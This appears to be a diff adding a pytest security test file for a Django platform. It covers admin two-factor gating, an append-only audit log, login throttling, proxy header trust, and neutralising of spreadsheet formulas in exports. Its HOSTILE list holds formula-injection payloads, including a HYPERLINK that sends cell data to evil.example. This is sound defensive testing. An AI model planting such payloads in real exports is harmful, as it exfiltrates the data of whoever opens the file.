@@ -1,0 +1,289 @@
+"""Issue 13: one door in (the admin behind the platform's sign-in and second factor), an append-only audit
+log with every membership change, a throttle that holds, no formula in any export, no 500 for a bad id."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pyotp
+import pytest
+from django.core import mail
+from django.core.cache import cache
+
+from paritas.web.accounts import throttle, totp
+from paritas.web.accounts.models import AppendOnly, AuditEvent, ThrottleEvent, User
+from paritas.web.organisations.models import Membership, Organisation
+from tests.web.conftest import PASSWORD
+
+
+@pytest.fixture
+def staff(db):
+    return User.objects.create_user("staff@paritas.test", PASSWORD, is_staff=True, is_superuser=True)
+
+
+def _with_totp(user: User) -> str:
+    secret = totp.new_secret()
+    user.totp_secret = totp.store(secret)
+    user.save()
+    return secret
+
+
+# --- 1. One door in ---------------------------------------------------------------------------------------
+
+def test_the_admin_login_leads_to_the_platforms_sign_in(client, staff):
+    response = client.get("/admin/login/?next=/admin/")
+    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/?next=/admin/")
+    # A password alone posted to the admin's login signs nobody in.
+    response = client.post("/admin/login/?next=/admin/", {"username": staff.email, "password": PASSWORD})
+    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
+    assert client.get("/admin/").status_code == 302
+
+
+def test_staff_with_totp_reach_the_admin_only_after_the_code(client, staff):
+    secret = _with_totp(staff)
+    response = client.post("/accounts/login/?next=/admin/", {"email": staff.email, "password": PASSWORD,
+                                                             "next": "/admin/"})
+    assert "/accounts/login/code/" in response["Location"]
+    assert client.get("/admin/").status_code == 302  # the password alone does not open it
+    response = client.post("/accounts/login/code/", {"code": pyotp.TOTP(secret).now(), "next": "/admin/"})
+    assert response.status_code == 302 and response["Location"] == "/admin/"
+    assert client.get("/admin/").status_code == 200
+
+
+def test_staff_without_a_second_factor_set_one_up_before_the_session_starts(client, staff):
+    response = client.post("/accounts/login/", {"email": staff.email, "password": PASSWORD})
+    assert "/accounts/login/setup/" in response["Location"]
+    assert client.get("/admin/").status_code == 302 and client.get("/accounts/settings/").status_code == 302
+    secret = client.session["paritas_totp_enrol"]
+    assert client.post("/accounts/login/setup/", {"code": "000000"}).status_code == 401
+    response = client.post("/accounts/login/setup/", {"code": pyotp.TOTP(secret).now()})
+    assert response.status_code == 302
+    staff.refresh_from_db()
+    assert staff.has_totp and totp.secret_of(staff) == secret
+    assert client.get("/admin/").status_code == 200
+
+
+def test_a_session_without_the_second_factor_does_not_open_the_admin(client, staff):
+    client.force_login(staff)  # e.g. a session from before staff had to use a second factor
+    assert client.get("/admin/").status_code == 302
+    assert client.get("/admin/accounts/auditevent/").status_code == 302
+
+
+def test_staff_cannot_turn_the_second_factor_off(client, staff):
+    _with_totp(staff)
+    client.force_login(staff)
+    client.post("/accounts/settings/", {"action": "totp_off", "password": PASSWORD})
+    staff.refresh_from_db()
+    assert staff.has_totp
+
+
+def _admin_client(client, staff):
+    secret = _with_totp(staff)
+    client.post("/accounts/login/", {"email": staff.email, "password": PASSWORD})
+    client.post("/accounts/login/code/", {"code": pyotp.TOTP(secret).now()})
+    assert client.get("/admin/").status_code == 200
+    return client
+
+
+def test_the_audit_log_is_append_only_everywhere(client, staff, orgs):
+    event = AuditEvent.objects.filter(organisation=orgs["alpha"]["org"]).first()
+    with pytest.raises(AppendOnly):
+        event.detail = "changed"
+        event.save()
+    with pytest.raises(AppendOnly):
+        event.delete()
+    with pytest.raises(AppendOnly):
+        AuditEvent.objects.all().delete()
+    with pytest.raises(AppendOnly):
+        AuditEvent.objects.filter(pk=event.pk).update(detail="changed")
+    with pytest.raises(Exception, match="protected"):
+        orgs["alpha"]["org"].delete()  # an organisation with an audit log keeps it
+    admin = _admin_client(client, staff)
+    count = AuditEvent.objects.count()
+    assert admin.get(f"/admin/accounts/auditevent/{event.pk}/delete/").status_code == 403
+    assert admin.post(f"/admin/accounts/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
+    assert admin.post("/admin/accounts/auditevent/", {"action": "delete_selected",
+                                                      "_selected_action": [event.pk], "post": "yes"}).status_code in (
+        200, 302, 403)
+    assert admin.get("/admin/accounts/auditevent/add/").status_code == 403
+    assert AuditEvent.objects.count() == count
+    assert AuditEvent.objects.get(pk=event.pk).detail == event.__class__.objects.get(pk=event.pk).detail
+
+
+def test_every_membership_change_is_audited_however_it_is_made(client, staff, orgs):
+    org, viewer = orgs["alpha"]["org"], orgs["beta"]["viewer"]
+    events = AuditEvent.objects.filter(organisation=org, action=AuditEvent.Action.MEMBERSHIP)
+    before = events.count()
+    # In the admin (the probe's path: a staff member makes themselves owner through the inline).
+    admin = _admin_client(client, staff)
+    membership = Membership.objects.create(user=viewer, organisation=org, role="viewer")
+    assert events.count() == before + 1
+    data = {"name": org.name, "slug": org.slug, "type": org.type, "sector": org.sector, "language": "de",
+            "min_group_size": 5, "memberships-TOTAL_FORMS": 1, "memberships-INITIAL_FORMS": 0,
+            "memberships-0-user": staff.pk, "memberships-0-role": "owner", "memberships-0-organisation": org.pk}
+    response = admin.post(f"/admin/organisations/organisation/{org.pk}/change/", data)
+    assert response.status_code == 302, response.content.decode()[:2000]
+    last = events.first()
+    assert last.detail == f"{staff.email}: owner" and last.user == staff and last.via == "admin"
+    # In code, with no request at all: a role change and a removal.
+    membership.role = "analyst"
+    membership.save()
+    assert events.first().detail == f"{viewer.email}: viewer → analyst" and events.first().via == "system"
+    membership.delete()
+    assert events.first().detail == f"{viewer.email}: removed"
+    # On the members page.
+    client.force_login(orgs["alpha"]["owner"])
+    client.post("/o/alpha/members/", {"email": viewer.email, "role": "viewer"})
+    assert events.first().detail == f"{viewer.email}: viewer" and events.first().user == orgs["alpha"]["owner"]
+
+
+# --- 2. A throttle that holds -------------------------------------------------------------------------------
+
+def test_the_lock_survives_a_flood_of_register_requests(client, orgs):
+    for _ in range(5):
+        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"})
+    for page in range(300):  # fills the page cache the register uses: the failures are not in it
+        client.get(f"/register/?page={page}&year={2000 + page % 30}")
+    cache.clear()
+    response = client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD})
+    assert response.status_code == 429
+    assert ThrottleEvent.objects.filter(scope=throttle.PAIR).count() == 5
+
+
+def test_one_persons_failures_do_not_lock_out_others_behind_the_same_address(client, orgs):
+    for _ in range(5):
+        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"})
+    assert client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD}).status_code == 429
+    # Another account from the same address signs in.
+    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD}).status_code == 302
+
+
+def test_guessing_one_account_from_many_addresses_locks_that_account(client, orgs, settings):
+    for i in range(settings.LOGIN_ACCOUNT_FAILURE_LIMIT):
+        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"},
+                    REMOTE_ADDR=f"198.51.100.{i}")
+    response = client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD},
+                           REMOTE_ADDR="203.0.113.9")
+    assert response.status_code == 429
+
+
+def test_spraying_from_one_address_locks_that_address(client, orgs, settings):
+    settings.LOGIN_CLIENT_FAILURE_LIMIT = 8
+    for i in range(8):
+        client.post("/accounts/login/", {"email": f"nobody{i}@alpha.test", "password": "wrong"},
+                    REMOTE_ADDR="198.51.100.7")
+    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD},
+                       REMOTE_ADDR="198.51.100.7").status_code == 429
+    assert client.post("/accounts/login/", {"email": "owner@beta.test", "password": PASSWORD},
+                       REMOTE_ADDR="198.51.100.8").status_code == 302
+
+
+def test_the_client_address_comes_from_a_trusted_proxy_only(rf, settings):
+    settings.TRUSTED_PROXIES = "10.0.0.0/8"
+    forged = rf.get("/", REMOTE_ADDR="203.0.113.5", HTTP_X_FORWARDED_FOR="192.0.2.1")
+    assert throttle.client_of(forged) == "203.0.113.5"  # not a proxy of ours: its header is ignored
+    proxied = rf.get("/", REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.4, 10.9.9.9")
+    assert throttle.client_of(proxied) == "198.51.100.4"  # the nearest hop that is not our proxy
+    assert throttle.client_of(rf.get("/", REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR="junk")) == "10.1.2.3"
+    settings.TRUSTED_PROXIES = ""
+    assert throttle.client_of(proxied) == "10.1.2.3"
+
+
+def test_failures_behind_a_proxy_count_per_real_client(client, orgs, settings):
+    settings.TRUSTED_PROXIES = "10.0.0.1"
+    for _ in range(5):
+        client.post("/accounts/login/", {"email": "owner@alpha.test", "password": "wrong"},
+                    REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="192.0.2.10")
+    assert client.post("/accounts/login/", {"email": "owner@alpha.test", "password": PASSWORD}, REMOTE_ADDR="10.0.0.1",
+                       HTTP_X_FORWARDED_FOR="192.0.2.11").status_code == 302
+
+
+def test_password_reset_requests_are_throttled_per_account_and_per_address(client, orgs, settings):
+    for _ in range(5):
+        assert client.post("/accounts/password-reset/", {"email": "viewer@alpha.test"}).status_code == 302
+    assert len(mail.outbox) == settings.PASSWORD_RESET_ACCOUNT_LIMIT  # the page says the same; no more mail
+    for i in range(settings.PASSWORD_RESET_CLIENT_LIMIT - 5):
+        client.post("/accounts/password-reset/", {"email": f"x{i}@alpha.test"})
+    response = client.post("/accounts/password-reset/", {"email": "owner@alpha.test"})
+    assert response.status_code == 429
+    assert client.post("/accounts/password-reset/", {"email": "owner@alpha.test"},
+                       REMOTE_ADDR="192.0.2.99").status_code == 302
+
+
+# --- 3. No formula in any export ------------------------------------------------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tcmd", "\r=1"]
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised():
+    from paritas.reports.cells import csv_cell, csv_text
+
+    for text in HOSTILE:
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Stadt Herne") == "Stadt Herne" and csv_cell(-0.05) == -0.05 and csv_cell(float("nan")) == ""
+    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[t] for t in HOSTILE]))))
+    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
+
+
+def test_the_register_csv_carries_no_formula(client, db):
+    from datetime import date
+
+    from paritas.web.awards.models import Award, Programme
+
+    programme = Programme.objects.create(name="=1+1", slug="p")
+    for i, name in enumerate(HOSTILE):
+        org = Organisation.objects.create(slug=f"o{i}", name=name, type="company")
+        Award.objects.create(programme=programme, organisation=org, awarded_on=date.today(),
+                             valid_from=date.today(), valid_until=date(date.today().year + 2, 12, 31), number=1)
+    text = client.get("/register.csv").content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and c != "-")]
+    assert "'=1+1" in cells
+
+
+def test_xlsx_reports_write_every_text_as_text(tmp_path):
+    from paritas.reports.xlsx import Sheet, write_workbook
+
+    path = tmp_path / "report.xlsx"
+    write_workbook(path, [Sheet("=evil", HOSTILE, [HOSTILE, [float("nan"), float("inf"), -1.5, None, 3, "x"]],
+                                title="=TITLE()", notes=["=NOTE()", "@x"])])
+    workbook = openpyxl.load_workbook(path)
+    values = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
+    assert values and all(c.data_type in ("s", "n") for c in values)
+    texts = {c.value.replace("_x000D_", "\r") for c in values if c.data_type == "s"}  # CR as OOXML escapes it
+    assert texts >= set(HOSTILE) | {"=TITLE()", "=NOTE()"}
+    assert [c.value for c in values if c.data_type == "n"] == [-1.5, 3]
+
+
+def test_the_structure_workbook_of_a_hostile_export_has_no_formula(tmp_path):
+    from datetime import date
+
+    from paritas.analytics import io as hrio
+    from paritas.analytics.privacy import SuppressionRule
+    from paritas.analytics.structure import structure
+    from paritas.reports import structure as structure_report
+    from paritas.reports.i18n import Translator
+    from paritas.reports.xlsx import write_workbook
+
+    lines = ["Personalnummer;Geschlecht;Entgeltgruppe;Organisationseinheit"]
+    lines += [f"{i};{'w' if i % 2 else 'm'};E 9;=HYPERLINK(\"http://x\")" for i in range(40)]
+    source = tmp_path / "export.csv"
+    source.write_text("\n".join(lines), encoding="utf-8")
+    workforce = hrio.read(source, hrio.ReadOptions(reference_date=date(2024, 12, 31)))
+    out = tmp_path / "struktur.xlsx"
+    write_workbook(out, structure_report.sheets(structure(workforce, SuppressionRule(5)), Translator("de")))
+    workbook = openpyxl.load_workbook(out)
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert any(c.value == "=HYPERLINK(\"http://x\")" for c in cells)
+    assert all(c.data_type != "f" for c in cells)
+
+
+# --- 9. Ids that are not numbers ------------------------------------------------------------------------------
+
+def test_ids_that_are_not_numbers_give_400_or_404(client, orgs):
+    client.force_login(orgs["alpha"]["owner"])
+    assert client.post("/o/alpha/members/", {"remove": "abc"}).status_code == 404
+    assert client.post("/o/alpha/members/", {"remove": "1e3"}).status_code == 404
+    assert client.post("/accounts/settings/", {"action": "revoke", "token": "x"}).status_code == 400
